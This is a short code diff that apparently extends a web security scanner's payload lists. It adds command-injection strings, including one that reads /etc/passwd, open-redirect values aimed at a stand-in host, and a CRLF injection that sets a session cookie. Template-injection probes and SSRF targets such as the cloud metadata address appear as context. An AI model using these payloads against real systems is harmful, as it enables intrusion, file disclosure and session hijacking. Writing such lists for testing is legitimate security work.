@@ -85,7 +85,22 @@ TEMPLATES = (
     "{{config.items()}}",
     "{{''.__class__.__mro__}}",
 )
-COMMANDS = ("127.0.0.1;id", "127.0.0.1|whoami", "127.0.0.1&&uname -a", "$(cat /etc/passwd)", "127.0.0.1;ls -la", "`id`")
+COMMANDS = (
+    "127.0.0.1;id",
+    "127.0.0.1|whoami",
+    "127.0.0.1&&uname -a",
+    "$(cat /etc/passwd)",
+    "127.0.0.1;ls -la",
+    "`id`",
+    "127.0.0.1;echo $((7331*1337))",
+    "127.0.0.1;sleep 6",
+)
+REDIRECTS = (
+    "//evil.example/",
+    "/\\evil.example",
+    "//api.shop.example@evil.example/log-in",
+    "/\r\nSet-Cookie: sessionid=chosen-by-somebody-else",
+)
 INSIDE = (
     "http://127.0.0.1:9200/_cat/indices",
     "http://169.254.169.254/latest/meta-data/",
